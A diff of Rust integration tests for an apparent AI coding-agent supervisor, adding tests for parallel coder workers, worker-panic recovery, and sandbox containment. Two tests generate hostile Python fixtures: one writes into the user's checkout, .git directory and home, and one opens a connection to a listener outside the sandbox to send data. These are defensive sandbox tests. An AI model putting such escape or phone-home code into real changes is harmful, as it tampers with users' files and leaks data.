@@ -1,11 +1,13 @@
 //! The supervisor tree running real cycles on a small Python repository made in the test:
 //! real git, ruff from tdev's tool environment, pytest in the sandbox, the real knowledge graph.
 //! A cycle keeps a gate-passing branch and leaves the user's checkout alone; running again does
-//! not propose the same change twice; a panic in any actor fails only the cycle it served.
+//! not propose the same change twice; independent tasks are coded at the same time by the
+//! coder pool; a panic in any actor, a coder worker included, fails only the cycle it served;
+//! hostile tests are stopped or contained by the sandbox and the cycle records why.
 
 use std::path::{Path, PathBuf};
 use std::process::Command;
-use tdev_actors::{ActorKind, CoderConfig, CycleRequest, EvaluatorConfig, Tree, TreeConfig};
+use tdev_actors::{ActorKind, CoderConfig, CycleRequest, EvaluatorConfig, Event, Tree, TreeConfig};
 use tdev_core::{CycleRecord, Outcome, Trigger};
 use tdev_knowledge::KnowledgeGraph;
 
@@ -60,6 +62,40 @@ fn repository(root: &Path) -> PathBuf {
     repo
 }
 
+/// Adds a second package with its own `== None` comparison and its tests, committed: a second
+/// task, independent of the first (another directory, other files).
+fn add_billing(repo: &Path) {
+    std::fs::create_dir_all(repo.join("billing")).unwrap();
+    let write = |path: &str, text: &str| std::fs::write(repo.join(path), text).unwrap();
+    write("billing/__init__.py", "\"\"\"Billing.\"\"\"\n");
+    write(
+        "billing/invoice.py",
+        "\"\"\"Invoices.\"\"\"\n\n\ndef is_unpaid(paid_at):\n    \"\"\"Whether no payment was recorded.\"\"\"\n    return paid_at == None\n",
+    );
+    write(
+        "tests/test_invoice.py",
+        "from billing.invoice import is_unpaid\n\n\ndef test_none_is_unpaid():\n    assert is_unpaid(None)\n\n\ndef test_a_date_is_paid():\n    assert not is_unpaid(\"2026-01-01\")\n",
+    );
+    git(repo, &["add", "billing", "tests/test_invoice.py"]);
+    git(repo, &["commit", "-q", "-m", "Billing"]);
+}
+
+/// The files each branch changes against `main`, one sorted list per branch.
+fn files_changed(repo: &Path, branches: &[String]) -> Vec<Vec<String>> {
+    let mut all: Vec<Vec<String>> = branches
+        .iter()
+        .map(|branch| {
+            let range = format!("main...{branch}");
+            git(repo, &["diff", "--name-only", &range])
+                .lines()
+                .map(str::to_owned)
+                .collect()
+        })
+        .collect();
+    all.sort();
+    all
+}
+
 fn config(root: &Path) -> TreeConfig {
     let tools = cache("tools", "TDEV_TOOLS_DIR");
     assert!(
@@ -72,6 +108,7 @@ fn config(root: &Path) -> TreeConfig {
         scan: tdev_research::ScanOptions::default(),
         gates: tdev_gates::Policy::default(),
         coder: CoderConfig {
+            workers: 2,
             worktrees_dir: root.join("worktrees"),
             tools_dir: Some(tools.clone()),
             llm: None,
@@ -252,18 +289,11 @@ async fn a_panic_in_any_actor_fails_that_cycle_and_the_next_one_runs() {
         let reason = failed.failure_reason.clone().unwrap_or_default();
         assert!(reason.contains(actor.name()), "{actor:?}: {reason}");
 
-        // The next cycle runs through every phase. After a curator failure the first cycle's
-        // change was already kept on its branch (only its recording failed, and the root
-        // records it before the next cycle), so the next one leaves that finding alone:
-        // nothing new, not a failure.
+        // The next cycle runs through every phase. The curator is first asked what earlier
+        // cycles proposed, so its panic ends the first cycle before any change is made, and
+        // the next one makes it.
         let next = tree.run_cycle(request(&repo, "c-2")).await.unwrap();
-        let expected = if actor == ActorKind::Curator {
-            assert!(next.attempts.is_empty(), "{next:#?}");
-            Outcome::NoChange
-        } else {
-            Outcome::Passed
-        };
-        assert_eq!(next.outcome, expected, "{actor:?}: {next:#?}");
+        assert_eq!(next.outcome, Outcome::Passed, "{actor:?}: {next:#?}");
         tree.stop().await;
 
         let mut restarted = false;
@@ -288,7 +318,7 @@ async fn a_panic_in_any_actor_fails_that_cycle_and_the_next_one_runs() {
              SELECT ?o WHERE { ?c a tdev:Cycle ; tdev:outcome ?o } ORDER BY ?c",
             "o",
         );
-        assert_eq!(outcomes, ["failed", expected.as_str()], "{actor:?}");
+        assert_eq!(outcomes, ["failed", "passed"], "{actor:?}");
     }
 }
 
@@ -344,6 +374,235 @@ async fn a_test_that_forks_without_end_is_contained_and_the_cycle_says_why() {
     )
     .await;
     assert!(reason.contains("process"), "{reason}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn independent_tasks_are_coded_at_the_same_time_and_both_kept() {
+    let root = tempfile::tempdir().unwrap();
+    let repo = repository(root.path());
+    add_billing(&repo);
+    let user = tdev_worktree::Repo::open(&repo).unwrap();
+    let before = user.snapshot().unwrap();
+
+    let tree = Tree::start(config(root.path())).await.unwrap();
+    let mut events = tree.subscribe();
+    let record = tree.run_cycle(request(&repo, "c-1")).await.unwrap();
+    tree.stop().await;
+
+    assert_eq!(record.outcome, Outcome::Passed, "{record:#?}");
+    let mut kept = kept_branches(&record);
+    kept.sort();
+    assert_eq!(kept, ["tdev/auto/c-1-t1", "tdev/auto/c-1-t2"]);
+    assert_eq!(
+        files_changed(&repo, &kept),
+        [["billing/invoice.py"], ["shop/cart.py"]]
+    );
+    // The record keeps the plan's order, whichever task finished first.
+    let order: Vec<&str> = record.attempts.iter().map(|a| a.task.as_str()).collect();
+    assert_eq!(order, ["t1", "t2"]);
+    // Both attempts were under way before either ended: the two workers coded at once.
+    let mut started = 0;
+    while let Ok(event) = events.try_recv() {
+        match event {
+            Event::AttemptStarted { .. } => started += 1,
+            Event::AttemptFinished { .. } => break,
+            _ => {}
+        }
+    }
+    assert_eq!(
+        started, 2,
+        "the second attempt started after the first ended"
+    );
+    assert_eq!(
+        user.snapshot().unwrap(),
+        before,
+        "the user's checkout changed"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_coder_worker_that_panics_is_replaced_and_the_pool_goes_on() {
+    let root = tempfile::tempdir().unwrap();
+    let repo = repository(root.path());
+    add_billing(&repo);
+    let tree = Tree::start(config(root.path())).await.unwrap();
+    let mut events = tree.subscribe();
+
+    // One of the two workers panics on the attempt it is given; the other task goes on to
+    // its end in the same cycle.
+    tree.inject_panic(ActorKind::Coder);
+    let failed = tree.run_cycle(request(&repo, "c-1")).await.unwrap();
+    assert_eq!(failed.outcome, Outcome::Failed, "{failed:#?}");
+    let reason = failed.failure_reason.clone().unwrap_or_default();
+    assert!(
+        reason.contains("the coder actor failed while serving the cycle"),
+        "{reason}"
+    );
+    // The next cycle has both workers again: the surviving task's change is on its branch
+    // already, the other one is made now.
+    let next = tree.run_cycle(request(&repo, "c-2")).await.unwrap();
+    tree.stop().await;
+    assert_eq!(next.outcome, Outcome::Passed, "{next:#?}");
+    let mut kept = kept_branches(&failed);
+    kept.extend(kept_branches(&next));
+    assert_eq!(kept.len(), 2, "{failed:#?}\n{next:#?}");
+    assert_eq!(
+        files_changed(&repo, &kept),
+        [["billing/invoice.py"], ["shop/cart.py"]]
+    );
+    let mut restarts = Vec::new();
+    while let Ok(event) = events.try_recv() {
+        if let Event::ActorRestarted { actor, reason } = event {
+            restarts.push((actor, reason));
+        }
+    }
+    assert_eq!(restarts.len(), 1, "{restarts:?}");
+    assert_eq!(restarts[0].0, ActorKind::Coder);
+    assert!(restarts[0].1.contains("injected panic"), "{restarts:?}");
+}
+
+/// Makes the shop's only finding a function without a docstring, committed.
+fn undocumented(repo: &Path) {
+    std::fs::write(
+        repo.join("shop/cart.py"),
+        "\"\"\"Carts.\"\"\"\n\n\ndef is_empty(items):\n    return items is None\n",
+    )
+    .unwrap();
+    git(repo, &["commit", "-q", "-am", "Carts without a docstring"]);
+}
+
+/// Runs one cycle on the [`undocumented`] shop in `root`. Its only task, a docstring, goes to
+/// an agent command (`[command]`, `--backend command`) whose change adds the hostile `test` as
+/// `tests/<name>`, and the evaluator runs it in the sandbox with the rest of the suite. Checks
+/// that every attempt was refused because that new test failed (as pytest reported it under
+/// the sandbox) and that no branch was kept; returns the record.
+async fn hostile_change_cycle(root: &Path, name: &str, function: &str, test: &str) -> CycleRecord {
+    let repo = root.join("shop");
+    let agent = root.join("agent");
+    std::fs::create_dir_all(&agent).unwrap();
+    std::fs::write(agent.join(name), test).unwrap();
+    let mut config = config(root);
+    config.coder.command = Some(tdev_coder::CommandConfig {
+        argv: vec![
+            "cp".to_owned(),
+            agent.join(name).display().to_string(),
+            format!("{{worktree}}/tests/{name}"),
+        ],
+        timeout_secs: 60,
+        env: Default::default(),
+    });
+    let tree = Tree::start(config).await.unwrap();
+    let request = CycleRequest {
+        goal: "improve documentation".to_owned(),
+        backend: Some("command".to_owned()),
+        ..request(&repo, "c-1")
+    };
+    let record = tree.run_cycle(request).await.unwrap();
+    tree.stop().await;
+
+    assert_eq!(record.outcome, Outcome::Failed, "{record:#?}");
+    assert!(git(&repo, &["branch", "--list", "tdev/auto/*"]).is_empty());
+    assert_eq!(record.attempts.len(), 3, "{record:#?}");
+    let refused = format!("tests/{name}::{function} (new, failed)");
+    for attempt in &record.attempts {
+        assert!(attempt.change.is_some(), "{attempt:#?}");
+        assert!(
+            attempt.gate.reasons.iter().any(|r| r.contains(&refused)),
+            "{:?}",
+            attempt.gate.reasons
+        );
+    }
+    record
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_test_that_writes_outside_its_worktree_is_refused_and_the_cycle_says_why() {
+    let root = tempfile::tempdir().unwrap();
+    let repo = repository(root.path());
+    undocumented(&repo);
+    // What the test goes for: the user's uncommitted notes, a new file in their checkout and
+    // one in their git directory, and a file of ours in the user's real home (the sandbox
+    // gives the test another HOME).
+    let home = std::env::var_os("HOME").expect("HOME is set");
+    let mut in_home = tempfile::Builder::new()
+        .prefix(".tdev-hostile-")
+        .tempfile_in(&home)
+        .unwrap();
+    std::io::Write::write_all(&mut in_home, b"untouched\n").unwrap();
+    let targets = [
+        repo.join("NOTES.md"),
+        repo.join("escaped.txt"),
+        repo.join(".git/escaped"),
+        in_home.path().to_path_buf(),
+    ];
+    let targets: Vec<String> = targets
+        .iter()
+        .map(|t| format!("{:?}", t.display().to_string()))
+        .collect();
+    let test = format!(
+        "\"\"\"Writes outside its worktree: into the user's checkout and home.\"\"\"\n\n\
+         TARGETS = [{}]\n\n\n\
+         def test_escape():\n\
+         \x20   refused = []\n\
+         \x20   for target in TARGETS:\n\
+         \x20       try:\n\
+         \x20           with open(target, \"a\") as f:\n\
+         \x20               f.write(\"written from inside the sandbox\\n\")\n\
+         \x20       except OSError as e:\n\
+         \x20           refused.append(f\"{{target}}: {{e}}\")\n\
+         \x20   assert not refused, refused\n",
+        targets.join(", ")
+    );
+    let user = tdev_worktree::Repo::open(&repo).unwrap();
+    let before = user.snapshot().unwrap();
+    let record = hostile_change_cycle(root.path(), "test_escape.py", "test_escape", &test).await;
+    assert_eq!(
+        user.snapshot().unwrap(),
+        before,
+        "the user's checkout changed"
+    );
+    assert_eq!(
+        std::fs::read_to_string(repo.join("NOTES.md")).unwrap(),
+        "uncommitted notes\n"
+    );
+    assert!(!repo.join("escaped.txt").exists());
+    assert!(!repo.join(".git/escaped").exists());
+    assert_eq!(
+        std::fs::read_to_string(in_home.path()).unwrap(),
+        "untouched\n"
+    );
+    assert!(
+        record
+            .attempts
+            .iter()
+            .all(|a| a.evaluation.as_ref().is_some_and(|e| e.tests_failed == 1)),
+        "{record:#?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_test_that_opens_a_connection_reaches_nothing_and_the_cycle_says_why() {
+    let root = tempfile::tempdir().unwrap();
+    undocumented(&repository(root.path()));
+    // A listener of ours, outside the sandbox: the only place the test tries to reach.
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let test = format!(
+        "\"\"\"Phones home: a connection to a listener on this machine.\"\"\"\n\
+         import socket\n\n\n\
+         def test_phone_home():\n\
+         \x20   with socket.create_connection((\"127.0.0.1\", {port}), timeout=5) as connection:\n\
+         \x20       connection.sendall(b\"hello from inside the sandbox\")\n"
+    );
+    hostile_change_cycle(root.path(), "test_phone_home.py", "test_phone_home", &test).await;
+    // A connection that was made waits in the listener's queue until accepted, even after
+    // its client has gone: there must be none.
+    listener.set_nonblocking(true).unwrap();
+    let accepted = listener.accept();
+    assert!(
+        matches!(&accepted, Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
+        "the test reached the listener: {accepted:?}"
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
